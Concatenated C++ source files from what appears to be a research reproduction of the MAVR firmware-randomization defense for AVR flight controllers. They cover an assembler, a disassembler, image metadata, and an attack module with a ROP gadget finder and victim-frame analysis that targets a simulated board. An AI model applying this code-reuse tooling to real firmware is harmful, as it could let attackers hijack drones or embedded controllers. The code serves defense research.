  // Data symbol: @name or @name+off.
  if (text[0] == '@') {
    const std::size_t plus = text.find('+');
    op.kind = Operand::Kind::DataSym;
    op.ident = std::string(text.substr(1, plus == std::string_view::npos
                                              ? std::string_view::npos
                                              : plus - 1));
    if (plus != std::string_view::npos) {
      std::int64_t off = 0;
      if (!parse_number(text.substr(plus + 1), &off) || off < 0 ||
          off > 0xFFFF) {
        fail(line, "bad symbol offset: " + std::string(text));
      }
      op.offset = static_cast<std::uint16_t>(off);
    }
    if (op.ident.empty()) fail(line, "empty symbol name");
    return op;
  }
  // Number.
  std::int64_t n = 0;
  if (parse_number(text, &n)) {
    op.kind = Operand::Kind::Number;
    op.number = n;
    return op;
  }
  // Identifier (label or global symbol).
  for (char c : text) {
    if (!std::isalnum(static_cast<unsigned char>(c)) && c != '_') {
      fail(line, "unrecognized operand: " + std::string(text));
    }
  }
  op.kind = Operand::Kind::Ident;
  op.ident = std::string(text);
  return op;
}

std::vector<Operand> split_operands(std::string_view text, int line) {
  std::vector<Operand> out;
  std::size_t start = 0;
  while (start <= text.size()) {
    const std::size_t comma = text.find(',', start);
    const std::string_view piece =
        text.substr(start, comma == std::string_view::npos
                               ? std::string_view::npos
                               : comma - start);
    if (!trim(piece).empty()) out.push_back(parse_operand(piece, line));
    if (comma == std::string_view::npos) break;
    start = comma + 1;
  }
  return out;
}

class Parser {
 public:
  Parser(const std::string& name, std::string_view source)
      : fb_(name), source_(source) {}

  AsmFunction run() {
    std::size_t pos = 0;
    int line_no = 0;
    while (pos <= source_.size()) {
      const std::size_t nl = source_.find('\n', pos);
      std::string_view line =
          source_.substr(pos, nl == std::string_view::npos
                                  ? std::string_view::npos
                                  : nl - pos);
      ++line_no;
      handle_line(line, line_no);
      if (nl == std::string_view::npos) break;
      pos = nl + 1;
    }
    // Every referenced label must have been bound.
    for (const auto& [label_name, state] : labels_) {
      if (!state.bound) {
        fail(state.first_use_line, "undefined label: " + label_name);
      }
    }
    return fb_.take();
  }

 private:
  struct LabelState {
    Label label;
    bool bound = false;
    int first_use_line = 0;
  };

  Label label_for(const std::string& label_name, int line) {
    auto it = labels_.find(label_name);
    if (it == labels_.end()) {
      it = labels_.emplace(label_name,
                           LabelState{fb_.make_label(), false, line})
               .first;
    }
    return it->second.label;
  }

  void handle_line(std::string_view raw, int line) {
    // Strip comments.
    for (std::string_view marker : {";", "//"}) {
      const std::size_t at = raw.find(marker);
      if (at != std::string_view::npos) raw = raw.substr(0, at);
    }
    std::string_view text = trim(raw);
    if (text.empty()) return;

    // Label definition(s).
    while (true) {
      const std::size_t colon = text.find(':');
      if (colon == std::string_view::npos) break;
      const std::string label_name(trim(text.substr(0, colon)));
      if (label_name.empty()) fail(line, "empty label");
      auto& state =
          labels_.emplace(label_name, LabelState{fb_.make_label(), false, line})
              .first->second;
      if (state.bound) fail(line, "duplicate label: " + label_name);
      fb_.bind(state.label);
      state.bound = true;
      text = trim(text.substr(colon + 1));
      if (text.empty()) return;
    }

    // Mnemonic + operands.
    std::size_t sp = 0;
    while (sp < text.size() &&
           !std::isspace(static_cast<unsigned char>(text[sp]))) {
      ++sp;
    }
    std::string mnemonic(text.substr(0, sp));
    for (char& c : mnemonic) c = static_cast<char>(std::tolower(c));
    const std::vector<Operand> ops = split_operands(text.substr(sp), line);
    emit(mnemonic, ops, line);
  }

  // --- operand accessors with checking --------------------------------------
  std::uint8_t want_reg(const std::vector<Operand>& ops, std::size_t i,
                        int line) const {
    if (i >= ops.size() || ops[i].kind != Operand::Kind::Reg) {
      fail(line, "expected register operand");
    }
    return ops[i].reg;
  }
  std::uint8_t want_imm8(const std::vector<Operand>& ops, std::size_t i,
                         int line) const {
    if (i >= ops.size() || ops[i].kind != Operand::Kind::Number ||
        ops[i].number < 0 || ops[i].number > 255) {
      fail(line, "expected 8-bit immediate");
    }
    return static_cast<std::uint8_t>(ops[i].number);
  }
  std::string want_ident(const std::vector<Operand>& ops, std::size_t i,
                         int line) const {
    if (i >= ops.size() || ops[i].kind != Operand::Kind::Ident) {
      fail(line, "expected symbol operand");
    }
    return ops[i].ident;
  }

  void emit(const std::string& m, const std::vector<Operand>& ops, int line) {
    const auto two_reg = [&](Op op) {
      fb_.raw(enc_two_reg(op, want_reg(ops, 0, line), want_reg(ops, 1, line)));
    };
    const auto imm = [&](Op op) {
      fb_.raw(enc_imm(op, want_reg(ops, 0, line), want_imm8(ops, 1, line)));
    };
    const auto one_reg = [&](Op op) {
      fb_.raw(enc_one_reg(op, want_reg(ops, 0, line)));
    };
    const auto branch = [&](bool set, std::uint8_t bit) {
      if (set) {
        fb_.brbs(bit, label_for(want_ident(ops, 0, line), line));
      } else {
        fb_.brbc(bit, label_for(want_ident(ops, 0, line), line));
      }
    };

    if (m == "add") two_reg(Op::Add);
    else if (m == "adc") two_reg(Op::Adc);
    else if (m == "sub") two_reg(Op::Sub);
    else if (m == "sbc") two_reg(Op::Sbc);
    else if (m == "and") two_reg(Op::And);
    else if (m == "or") two_reg(Op::Or);
    else if (m == "eor") two_reg(Op::Eor);
    else if (m == "mov") two_reg(Op::Mov);
    else if (m == "cp") two_reg(Op::Cp);
    else if (m == "cpc") two_reg(Op::Cpc);
    else if (m == "cpse") two_reg(Op::Cpse);
    else if (m == "mul") two_reg(Op::Mul);
    else if (m == "movw") fb_.movw(want_reg(ops, 0, line), want_reg(ops, 1, line));
    else if (m == "ldi") imm(Op::Ldi);
    else if (m == "cpi") imm(Op::Cpi);
    else if (m == "subi") imm(Op::Subi);
    else if (m == "sbci") imm(Op::Sbci);
    else if (m == "andi") imm(Op::Andi);
    else if (m == "ori") imm(Op::Ori);
    else if (m == "com") one_reg(Op::Com);
    else if (m == "neg") one_reg(Op::Neg);
    else if (m == "inc") one_reg(Op::Inc);
    else if (m == "dec") one_reg(Op::Dec);
    else if (m == "swap") one_reg(Op::Swap);
    else if (m == "asr") one_reg(Op::Asr);
    else if (m == "lsr") one_reg(Op::Lsr);
    else if (m == "ror") one_reg(Op::Ror);
    else if (m == "adiw") fb_.adiw(want_reg(ops, 0, line), want_imm8(ops, 1, line));
    else if (m == "sbiw") fb_.sbiw(want_reg(ops, 0, line), want_imm8(ops, 1, line));
    else if (m == "in") fb_.in(want_reg(ops, 0, line), want_imm8(ops, 1, line));
    else if (m == "out") fb_.out(want_imm8(ops, 0, line), want_reg(ops, 1, line));
    else if (m == "push") fb_.push(want_reg(ops, 0, line));
    else if (m == "pop") fb_.pop(want_reg(ops, 0, line));
    else if (m == "sbi") fb_.sbi(want_imm8(ops, 0, line), want_imm8(ops, 1, line));
    else if (m == "cbi") fb_.cbi(want_imm8(ops, 0, line), want_imm8(ops, 1, line));
    else if (m == "sbrc") fb_.sbrc(want_reg(ops, 0, line), want_imm8(ops, 1, line));
    else if (m == "sbrs") fb_.sbrs(want_reg(ops, 0, line), want_imm8(ops, 1, line));
    else if (m == "sbic") fb_.sbic(want_imm8(ops, 0, line), want_imm8(ops, 1, line));
    else if (m == "sbis") fb_.sbis(want_imm8(ops, 0, line), want_imm8(ops, 1, line));
    else if (m == "bst") fb_.bst(want_reg(ops, 0, line), want_imm8(ops, 1, line));
    else if (m == "bld") fb_.bld(want_reg(ops, 0, line), want_imm8(ops, 1, line));
    else if (m == "lds") emit_lds_sts(false, ops, line);
    else if (m == "sts") emit_lds_sts(true, ops, line);
    else if (m == "ldd" || m == "std") emit_displaced(m == "std", ops, line);
    else if (m == "ld" || m == "st") emit_indirect(m == "st", ops, line);
    else if (m == "lpm") fb_.lpm(want_reg(ops, 0, line));
    else if (m == "elpm") fb_.raw(enc_lpm(Op::Elpm, want_reg(ops, 0, line)));
    else if (m == "breq") branch(true, avr::kZ);
    else if (m == "brne") branch(false, avr::kZ);
    else if (m == "brcs" || m == "brlo") branch(true, avr::kC);
    else if (m == "brcc" || m == "brsh") branch(false, avr::kC);
    else if (m == "brmi") branch(true, avr::kN);
    else if (m == "brpl") branch(false, avr::kN);
    else if (m == "brlt") branch(true, avr::kS);
    else if (m == "brge") branch(false, avr::kS);
    else if (m == "rjmp") fb_.rjmp(label_for(want_ident(ops, 0, line), line));
    else if (m == "call") fb_.call(want_ident(ops, 0, line));
    else if (m == "jmp") fb_.jmp(want_ident(ops, 0, line));
    else if (m == "icall") fb_.icall();
    else if (m == "eicall") fb_.eicall();
    else if (m == "ijmp") fb_.ijmp();
    else if (m == "eijmp") fb_.eijmp();
    else if (m == "ret") fb_.ret();
    else if (m == "reti") fb_.raw(enc_no_operand(Op::Reti));
    else if (m == "nop") fb_.nop();
    else if (m == "break") fb_.break_();
    else if (m == "sleep") fb_.sleep();
    else if (m == "wdr") fb_.wdr();
    else if (m == "sei") fb_.raw(enc_bset_bclr(Op::Bset, avr::kI));
    else if (m == "cli") fb_.raw(enc_bset_bclr(Op::Bclr, avr::kI));
    else if (m == "sec") fb_.raw(enc_bset_bclr(Op::Bset, avr::kC));
    else if (m == "clc") fb_.raw(enc_bset_bclr(Op::Bclr, avr::kC));
    else fail(line, "unknown mnemonic: " + m);
  }

  void emit_lds_sts(bool store, const std::vector<Operand>& ops, int line) {
    const std::size_t addr_index = store ? 0 : 1;
    const std::size_t reg_index = store ? 1 : 0;
    const std::uint8_t reg = want_reg(ops, reg_index, line);
    if (addr_index >= ops.size()) fail(line, "missing address operand");
    const Operand& addr = ops[addr_index];
    if (addr.kind == Operand::Kind::DataSym) {
      if (store) {
        fb_.sts_sym(addr.ident, reg, addr.offset);
      } else {
        fb_.lds_sym(reg, addr.ident, addr.offset);
      }
    } else if (addr.kind == Operand::Kind::Number && addr.number >= 0 &&
               addr.number <= 0xFFFF) {
      if (store) {
        fb_.sts(static_cast<std::uint16_t>(addr.number), reg);
      } else {
        fb_.lds(reg, static_cast<std::uint16_t>(addr.number));
      }
    } else {
      fail(line, "expected data address (@symbol or number)");
    }
  }

  void emit_displaced(bool store, const std::vector<Operand>& ops, int line) {
    const std::size_t disp_index = store ? 0 : 1;
    const std::size_t reg_index = store ? 1 : 0;
    const std::uint8_t reg = want_reg(ops, reg_index, line);
    if (disp_index >= ops.size() ||
        (ops[disp_index].kind != Operand::Kind::YDisp &&
         ops[disp_index].kind != Operand::Kind::ZDisp)) {
      fail(line, "expected Y+q or Z+q operand");
    }
    const bool use_y = ops[disp_index].kind == Operand::Kind::YDisp;
    const std::uint8_t q = static_cast<std::uint8_t>(ops[disp_index].offset);
    if (store) {
      fb_.raw(enc_std(use_y, q, reg));
    } else {
      fb_.raw(enc_ldd(reg, use_y, q));
    }
  }

  void emit_indirect(bool store, const std::vector<Operand>& ops, int line) {
    const std::size_t ptr_index = store ? 0 : 1;
    const std::size_t reg_index = store ? 1 : 0;
    const std::uint8_t reg = want_reg(ops, reg_index, line);
    if (ptr_index < ops.size() &&
        (ops[ptr_index].kind == Operand::Kind::YDisp ||
         ops[ptr_index].kind == Operand::Kind::ZDisp)) {
      // `ld rd, Y` / `st Z, rr` are the q=0 displaced forms.
      emit_displaced(store, ops, line);
      return;
    }
    if (ptr_index >= ops.size() ||
        ops[ptr_index].kind != Operand::Kind::Indirect) {
      fail(line, "expected X/X+/-X/Y+/-Y/Z+/-Z operand");
    }
    static const std::map<std::string, std::pair<Op, Op>> kForms = {
        {"X", {Op::LdX, Op::StX}},     {"X+", {Op::LdXInc, Op::StXInc}},
        {"-X", {Op::LdXDec, Op::StXDec}}, {"Y+", {Op::LdYInc, Op::StYInc}},
        {"-Y", {Op::LdYDec, Op::StYDec}}, {"Z+", {Op::LdZInc, Op::StZInc}},
        {"-Z", {Op::LdZDec, Op::StZDec}},
    };
    const auto it = kForms.find(ops[ptr_index].ident);
    if (it == kForms.end()) fail(line, "bad indirect form");
    fb_.raw(enc_ld_st(store ? it->second.second : it->second.first, reg));
  }

  FunctionBuilder fb_;
  std::string_view source_;
  std::map<std::string, LabelState> labels_;
};

}  // namespace

AsmFunction parse_asm_function(const std::string& name,
                               std::string_view source) {
  return Parser(name, source).run();
}

}  // namespace mavr::toolchain
