#include "toolchain/disasm.hpp"

#include <cstdio>

#include "avr/decode.hpp"
#include "support/bytes.hpp"

namespace mavr::toolchain {

using avr::Instr;
using avr::Op;

namespace {

std::string fmt(const char* pattern, auto... args) {
  char buf[96];
  std::snprintf(buf, sizeof buf, pattern, args...);
  return buf;
}

}  // namespace

std::string format_instr(const Instr& in, std::uint32_t byte_addr) {
  const std::string name(avr::op_name(in.op));
  switch (in.op) {
    case Op::Invalid:
      return ".word <invalid>";
    case Op::Add: case Op::Adc: case Op::Sub: case Op::Sbc:
    case Op::And: case Op::Or: case Op::Eor: case Op::Mov:
    case Op::Cp: case Op::Cpc: case Op::Cpse: case Op::Mul:
      return fmt("%s r%u, r%u", name.c_str(), in.rd, in.rr);
    case Op::Movw:
      return fmt("movw r%u:r%u, r%u:r%u", in.rd + 1, in.rd, in.rr + 1, in.rr);
    case Op::Ldi: case Op::Cpi: case Op::Subi: case Op::Sbci:
    case Op::Andi: case Op::Ori:
      return fmt("%s r%u, 0x%02X", name.c_str(), in.rd, in.k);
    case Op::Com: case Op::Neg: case Op::Inc: case Op::Dec:
    case Op::Swap: case Op::Asr: case Op::Lsr: case Op::Ror:
    case Op::Push: case Op::Pop:
      return fmt("%s r%u", name.c_str(), in.rd);
    case Op::Adiw: case Op::Sbiw:
      return fmt("%s r%u, %u", name.c_str(), in.rd, in.k);
    case Op::In:
      return fmt("in r%u, 0x%02x", in.rd, in.k);
    case Op::Out:
      return fmt("out 0x%02x, r%u", in.k, in.rd);
    case Op::Lds:
      return fmt("lds r%u, 0x%04X", in.rd, in.k);
    case Op::Sts:
      return fmt("sts 0x%04X, r%u", in.k, in.rd);
    case Op::LddY:
      return fmt("ldd r%u, Y+%u", in.rd, in.k);
    case Op::LddZ:
      return fmt("ldd r%u, Z+%u", in.rd, in.k);
    case Op::StdY:
      return fmt("std Y+%u, r%u", in.k, in.rd);
    case Op::StdZ:
      return fmt("std Z+%u, r%u", in.k, in.rd);
    case Op::LdX: return fmt("ld r%u, X", in.rd);
    case Op::LdXInc: return fmt("ld r%u, X+", in.rd);
    case Op::LdXDec: return fmt("ld r%u, -X", in.rd);
    case Op::LdYInc: return fmt("ld r%u, Y+", in.rd);
    case Op::LdYDec: return fmt("ld r%u, -Y", in.rd);
    case Op::LdZInc: return fmt("ld r%u, Z+", in.rd);
    case Op::LdZDec: return fmt("ld r%u, -Z", in.rd);
    case Op::StX: return fmt("st X, r%u", in.rd);
    case Op::StXInc: return fmt("st X+, r%u", in.rd);
    case Op::StXDec: return fmt("st -X, r%u", in.rd);
    case Op::StYInc: return fmt("st Y+, r%u", in.rd);
    case Op::StYDec: return fmt("st -Y, r%u", in.rd);
    case Op::StZInc: return fmt("st Z+, r%u", in.rd);
    case Op::StZDec: return fmt("st -Z, r%u", in.rd);
    case Op::LpmR0: return "lpm";
    case Op::Lpm: return fmt("lpm r%u, Z", in.rd);
    case Op::LpmInc: return fmt("lpm r%u, Z+", in.rd);
    case Op::ElpmR0: return "elpm";
    case Op::Elpm: return fmt("elpm r%u, Z", in.rd);
    case Op::ElpmInc: return fmt("elpm r%u, Z+", in.rd);
    case Op::Rjmp:
    case Op::Rcall:
      return fmt("%s .%+d ; 0x%x", name.c_str(), in.target * 2,
                 byte_addr + 2 + in.target * 2);
    case Op::Jmp:
    case Op::Call:
      return fmt("%s 0x%x", name.c_str(),
                 static_cast<std::uint32_t>(in.target) * 2);
    case Op::Ijmp: case Op::Icall: case Op::Eijmp: case Op::Eicall:
    case Op::Ret: case Op::Reti: case Op::Nop: case Op::Sleep:
    case Op::Break: case Op::Wdr: case Op::Spm:
      return name;
    case Op::Brbs:
    case Op::Brbc: {
      static const char* set_names[] = {"brcs", "breq", "brmi", "brvs",
                                        "brlt", "brhs", "brts", "brie"};
      static const char* clr_names[] = {"brcc", "brne", "brpl", "brvc",
                                        "brge", "brhc", "brtc", "brid"};
      const char* n = (in.op == Op::Brbs) ? set_names[in.bit] : clr_names[in.bit];
      return fmt("%s .%+d ; 0x%x", n, in.target * 2,
                 byte_addr + 2 + in.target * 2);
    }
    case Op::Sbrc: case Op::Sbrs:
      return fmt("%s r%u, %u", name.c_str(), in.rd, in.bit);
    case Op::Sbic: case Op::Sbis:
    case Op::Sbi: case Op::Cbi:
      return fmt("%s 0x%02x, %u", name.c_str(), in.k, in.bit);
    case Op::Bset: case Op::Bclr:
      return fmt("%s %u", name.c_str(), in.bit);
    case Op::Bst: case Op::Bld:
      return fmt("%s r%u, %u", name.c_str(), in.rd, in.bit);
  }
  return name;
}

std::vector<DisasmLine> disassemble(std::span<const std::uint8_t> code,
                                    std::uint32_t base) {
  std::vector<DisasmLine> lines;
  std::size_t pos = 0;
  while (pos + 2 <= code.size()) {
    const std::uint16_t w1 = support::load_u16_le(code, pos);
    const std::uint16_t w2 = (pos + 4 <= code.size())
                                 ? support::load_u16_le(code, pos + 2)
                                 : 0;
    DisasmLine line;
    line.byte_addr = base + static_cast<std::uint32_t>(pos);
    line.instr = avr::decode(w1, w2);
    line.text = format_instr(line.instr, line.byte_addr);
    lines.push_back(std::move(line));
    pos += line.instr.size_words * 2;
  }
  return lines;
}

std::string format_listing(const std::vector<DisasmLine>& lines) {
  std::string out;
  for (const DisasmLine& line : lines) {
    out += fmt("%-8x%s\n", line.byte_addr, line.text.c_str());
  }
  return out;
}

}  // namespace mavr::toolchain
