// AVR disassembler — renders instruction listings like the paper's gadget
// figures (Figs. 4 and 5: address, mnemonic, operands).
#pragma once

#include <cstdint>
#include <span>
#include <string>
#include <vector>

#include "avr/instr.hpp"

namespace mavr::toolchain {

/// One disassembled line.
struct DisasmLine {
  std::uint32_t byte_addr = 0;
  avr::Instr instr;
  std::string text;  ///< e.g. "out 0x3e, r29"
};

/// Renders one instruction to text. `byte_addr` is used to print absolute
/// targets of relative jumps.
std::string format_instr(const avr::Instr& instr, std::uint32_t byte_addr);

/// Disassembles `code` (flat little-endian bytes starting at `base`).
std::vector<DisasmLine> disassemble(std::span<const std::uint8_t> code,
                                    std::uint32_t base = 0);

/// Formats a listing in the paper's figure style:
///   5d64    out 0x3e, r29
std::string format_listing(const std::vector<DisasmLine>& lines);

}  // namespace mavr::toolchain
