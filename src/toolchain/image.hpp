// The linked firmware artifact and its symbol information.
//
// Plays the role of the ELF + Intel HEX pair in the paper (§VI-B2): the
// flat flash image plus the symbol metadata that the MAVR preprocessing
// stage prepends to the HEX file so the master processor can move function
// blocks and patch references at run time.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "support/bytes.hpp"

namespace mavr::toolchain {

/// Linker options reproducing the paper's compiler-flag discussion (§VI-B1):
/// `relax` models GNU ld's call→rcall relaxation (must be *off* for MAVR),
/// `call_prologues` models -mcall-prologues consolidation (must be *off*),
/// `align_functions` models newer-GCC function alignment (the stock
/// toolchain aligns, the MAVR GCC 4.5.4 toolchain packs — see EXPERIMENTS.md
/// for how this calibrates Table III).
struct ToolchainOptions {
  bool relax = false;
  bool call_prologues = false;
  bool align_functions = false;

  /// The configuration the paper's custom MAVR toolchain uses.
  static ToolchainOptions mavr() {
    return {.relax = false, .call_prologues = false, .align_functions = false};
  }
  /// A typical stock AVR build (size-optimized, randomization-hostile).
  static ToolchainOptions stock() {
    return {.relax = true, .call_prologues = true, .align_functions = true};
  }
};

/// One linked symbol. Addresses and sizes are in flash *bytes*.
struct Symbol {
  enum class Kind { Function, Object };
  std::string name;
  std::uint32_t addr = 0;
  std::uint32_t size = 0;
  Kind kind = Kind::Function;
  bool movable = true;  ///< false for the vector table (must stay at 0)
};

/// Flash location (byte offset) holding a code pointer as a *word address*
/// (function-pointer tables, switch jump tables in the data-init region).
///
/// On the 256 KiB ATmega2560 a word address needs 17 bits, so dispatch
/// tables store *far* pointers: a little-endian low word plus a third byte
/// holding bits 16..23 (loaded into EIND before EICALL). `width` is 3 for
/// these; 2-byte slots are legal only while the target stays below 128 KiB.
struct PointerSlot {
  std::uint32_t image_offset = 0;  ///< where in the image the value lives
  std::uint8_t width = 3;          ///< 2 or 3 bytes
};

/// RAM-resident global (for introspection by tests and by the attacker
/// model, which per the threat model owns the unprotected binary + symbols).
struct DataSymbol {
  std::string name;
  std::uint16_t ram_addr = 0;
  std::uint16_t size = 0;
};

/// A fully linked firmware image.
struct Image {
  support::Bytes bytes;  ///< flat flash contents, starting at byte 0

  std::uint32_t text_end = 0;      ///< end of executable code (bytes)
  std::uint32_t data_init_offset = 0;  ///< flash offset of .data initializers
  std::uint32_t data_ram_base = 0;     ///< RAM address .data is copied to
  std::uint32_t data_bytes = 0;        ///< length of .data

  std::vector<Symbol> symbols;  ///< ascending by addr
  std::vector<DataSymbol> data_symbols;
  std::vector<PointerSlot> pointer_slots;
  /// Image offsets of LDI words materializing code addresses — generated
  /// only by -mcall-prologues builds; MAVR refuses to randomize images
  /// containing these (paper §VI-B1).
  std::vector<std::uint32_t> ldi_code_pointers;
  ToolchainOptions options;

  std::uint32_t size_bytes() const {
    return static_cast<std::uint32_t>(bytes.size());
  }

  /// Function symbols only, ascending by address.
  std::vector<Symbol> functions() const;

  /// Number of function symbols — the paper's Table I metric.
  std::size_t function_count() const;

  /// Looks a symbol up by name.
  const Symbol* find(std::string_view name) const;

  /// Looks a RAM global up by name (attacker/tests introspection).
  const DataSymbol* find_data(std::string_view name) const;

  /// The function whose [addr, addr+size) contains `byte_addr`, or nullptr.
  /// Binary search — the same operation the master processor performs for
  /// trampoline targets that fall inside a function (paper §VI-B3).
  const Symbol* function_containing(std::uint32_t byte_addr) const;

  /// Word (little-endian) at image byte offset.
  std::uint16_t word_at(std::uint32_t offset) const;
  void set_word_at(std::uint32_t offset, std::uint16_t value);
};

/// Symbol metadata in the serialized form the preprocessor prepends to the
/// HEX file (paper §VI-B2): function start addresses in ascending order
/// plus the list of flash locations holding function pointers.
struct SymbolBlob {
  std::vector<std::uint32_t> function_addrs;  ///< byte addrs, ascending
  std::vector<std::uint32_t> function_sizes;  ///< bytes, parallel array
  std::vector<PointerSlot> pointer_slots;     ///< image offsets + widths
  std::uint32_t text_end = 0;
  /// End of the region the randomizer may lay code out in: text_end plus
  /// any reserved padding gap (== the .data initializer offset).
  std::uint32_t layout_end = 0;
  std::uint32_t first_movable = 0;  ///< byte addr of first movable function
  bool has_ldi_code_pointers = false;

  /// Serializes to the on-flash wire format (little-endian, CRC-protected).
  support::Bytes serialize() const;

  /// Parses the wire format; throws support::DataError on corruption.
  static SymbolBlob deserialize(std::span<const std::uint8_t> data);

  /// Extracts the blob contents from a linked image.
  static SymbolBlob from_image(const Image& image);
};

}  // namespace mavr::toolchain
