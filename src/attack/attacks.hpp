// High-level attack orchestration (paper §IV).
//
// `analyze()` performs everything the paper's attacker does offline with
// the *stock* binary: scan it for gadgets, parse the vulnerable handler's
// frame layout, and replay the firmware on a private replica board to learn
// the exact stack state at the moment of exploitation (addresses, saved
// registers, return address). The result feeds RopChainBuilder.
//
// Per the threat model (§IV-A) the attacker never sees the randomized
// binary — analyze() takes the unprotected image only.
#pragma once

#include <cstdint>

#include "attack/gadgets.hpp"
#include "attack/rop.hpp"
#include "toolchain/image.hpp"

namespace mavr::attack {

/// Everything needed to craft payloads against one (stock) firmware build.
struct AttackPlan {
  StkMoveGadget stk;
  WriteMemGadget wm;
  VictimFrame frame;
  GadgetCensus census;
  std::uint16_t gyro_cal_addr = 0;  ///< the paper's persistent target

  RopChainBuilder builder() const { return RopChainBuilder(stk, wm, frame); }
};

/// Offline analysis of the stock image (gadget scan + replica replay).
/// Throws support::PreconditionError when no usable gadgets exist.
AttackPlan analyze(const toolchain::Image& stock_image);

/// Parses the frame size out of a function's prologue (the attacker has
/// the binary; this is plain disassembly). Returns 0 for frameless code.
std::uint16_t parse_frame_bytes(const toolchain::Image& image,
                                std::uint32_t fn_byte_addr);

/// Replays the firmware on a replica board, delivers one benign PARAM_SET
/// and captures the machine state at handler entry.
VictimFrame probe_victim(const toolchain::Image& stock_image,
                         std::uint32_t handler_byte_addr,
                         std::uint16_t frame_bytes);

}  // namespace mavr::attack
