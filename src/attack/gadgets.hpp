// Gadget discovery on AVR firmware images (paper §IV, Figs. 4–5).
//
// The finder linearly disassembles the executable region and recognizes:
//  * stk_move gadgets — `out SPH,r29 ; [out SREG,r0] ; out SPL,r28 ;
//    pop… ; ret`, the tail of any framed function's epilogue. Writing the
//    stack pointer from Y is what lets the attack pivot SP into the
//    vulnerable buffer and back (clean return);
//  * write_mem gadgets — `std Y+1,r5 ; std Y+2,r6 ; std Y+3,r7 ; pop… ;
//    ret`, the store-then-restore tail of register-heavy functions,
//    which both writes attacker bytes anywhere in the data space and
//    reloads Y/r5–r7 for the next round;
//  * a census of all ret-terminated sequences — the "gadgets found"
//    population the paper reports (953 for the vulnerable test app).
#pragma once

#include <cstdint>
#include <vector>

#include "toolchain/image.hpp"

namespace mavr::attack {

/// A stack-pointer-move gadget (paper Fig. 4).
struct StkMoveGadget {
  std::uint32_t entry_byte_addr = 0;  ///< at the `out SPH, r29`
  /// Registers popped between the SP write and the ret, in pop order;
  /// the chain builder uses this to lay out the bytes each pop consumes.
  std::vector<std::uint8_t> pops;
};

/// A memory-write gadget (paper Fig. 5).
struct WriteMemGadget {
  std::uint32_t store_entry_byte_addr = 0;  ///< at the first `std Y+1, r5`
  std::uint32_t pop_entry_byte_addr = 0;    ///< at the first pop after stores
  std::vector<std::uint8_t> pops;           ///< in pop order (r29 first)
};

/// Classification of one gadget entry point. Mirrors the census columns:
/// every ret-terminated sequence is a kRet site at its ret instruction,
/// and the mid-sequence entries (out SPH / std Y+1) are distinct sites of
/// their own kinds — the same accounting total() uses.
enum class GadgetKind : std::uint8_t {
  kRet,      ///< the ret instruction terminating a sequence
  kStkMove,  ///< stk_move entry (at the out SPH)
  kWriteMem, ///< write_mem store entry (at the first std Y+1)
};

const char* gadget_kind_name(GadgetKind kind);

/// One gadget entry point with its address and kind — the join key the
/// analysis plane's reachability ranking needs (census totals alone cannot
/// be joined against a taint depth).
struct GadgetSite {
  std::uint32_t byte_addr = 0;
  GadgetKind kind = GadgetKind::kRet;
  /// Pops between entry and ret (0 for a bare ret site): chain capacity.
  std::uint8_t pop_count = 0;
};

/// Census of code-reuse material in an image.
struct GadgetCensus {
  std::uint32_t ret_gadgets = 0;       ///< ret-terminated sequences
  std::uint32_t stk_move_gadgets = 0;
  std::uint32_t write_mem_gadgets = 0;
  std::uint32_t pop_chain_gadgets = 0; ///< rets preceded by >= 4 pops

  /// The paper's "gadgets found" population. pop_chain_gadgets is
  /// deliberately excluded: every pop-chain is one of the ret_gadgets
  /// already counted (the census tallies each ret-terminated sequence
  /// once, then classifies it), so adding the column would double-count
  /// exactly the chains the stealthy payloads are built from. stk_move and
  /// write_mem entries are *mid-sequence* entry points (the out SPH / std
  /// Y+1 before the pop run), distinct addresses from their ret gadget,
  /// which is why those two do add. Pinned against the vulnerable test
  /// app in attack/gadgets_test.cpp.
  std::uint32_t total() const {
    return ret_gadgets + stk_move_gadgets + write_mem_gadgets;
  }
};

/// Scans the executable region of a firmware image.
/// Works on raw bytes + text extent: the attacker does not need symbols
/// for this step (they do get them, per the threat model, but gadget
/// scanning is pure code analysis).
class GadgetFinder {
 public:
  GadgetFinder(std::span<const std::uint8_t> image, std::uint32_t text_end);

  explicit GadgetFinder(const toolchain::Image& image)
      : GadgetFinder(image.bytes, image.text_end) {}

  const std::vector<StkMoveGadget>& stk_moves() const { return stk_moves_; }
  const std::vector<WriteMemGadget>& write_mems() const { return write_mems_; }
  const GadgetCensus& census() const { return census_; }

  /// Every counted gadget entry point, ascending by address (ties broken
  /// by kind order). sites().size() == census().total(): one site per
  /// counted gadget, so downstream joins inherit total()'s no-double-count
  /// semantics (pop-chains are kRet sites, not separate entries).
  const std::vector<GadgetSite>& sites() const { return sites_; }

 private:
  void scan(std::span<const std::uint8_t> image, std::uint32_t text_end);

  std::vector<StkMoveGadget> stk_moves_;
  std::vector<WriteMemGadget> write_mems_;
  std::vector<GadgetSite> sites_;
  GadgetCensus census_;
};

}  // namespace mavr::attack
