#include "attack/attacks.hpp"

#include "avr/decode.hpp"
#include "mavlink/mavlink.hpp"
#include "sim/board.hpp"
#include "sim/ground.hpp"
#include "support/error.hpp"

namespace mavr::attack {

using avr::Op;

std::uint16_t parse_frame_bytes(const toolchain::Image& image,
                                std::uint32_t fn_byte_addr) {
  // Walk the prologue: pushes, then `in r28/r29`, then either
  // `sbiw r28, k` or `subi r28, lo ; sbci r29, hi`.
  std::uint32_t pos = fn_byte_addr;
  std::uint16_t lo = 0;
  for (int steps = 0; steps < 40 && pos + 2 <= image.bytes.size(); ++steps) {
    const avr::Instr in = avr::decode(
        image.word_at(pos), pos + 2 < image.bytes.size()
                                ? image.word_at(pos + 2)
                                : std::uint16_t{0});
    if (in.op == Op::Sbiw && in.rd == 28) return in.k;
    if (in.op == Op::Subi && in.rd == 28) {
      lo = in.k;
    } else if (in.op == Op::Sbci && in.rd == 29) {
      return static_cast<std::uint16_t>(lo | (in.k << 8));
    } else if (in.op != Op::Push && in.op != Op::In) {
      break;  // past the prologue
    }
    pos += in.size_words * 2;
  }
  return 0;
}

VictimFrame probe_victim(const toolchain::Image& stock_image,
                         std::uint32_t handler_byte_addr,
                         std::uint16_t frame_bytes) {
  sim::Board replica;
  replica.flash_image(stock_image.bytes);
  replica.run_cycles(300'000);  // boot and settle

  sim::GroundStation gcs(replica);
  mavlink::ParamSet benign;
  gcs.send_param_set(benign);

  VictimFrame frame;
  frame.frame_bytes = frame_bytes;
  bool captured = false;
  const std::uint32_t entry_word = handler_byte_addr / 2;
  replica.set_trace_hook([&](const avr::Cpu& cpu) {
    if (captured || cpu.pc() != entry_word) return;
    captured = true;
    frame.p = cpu.sp();
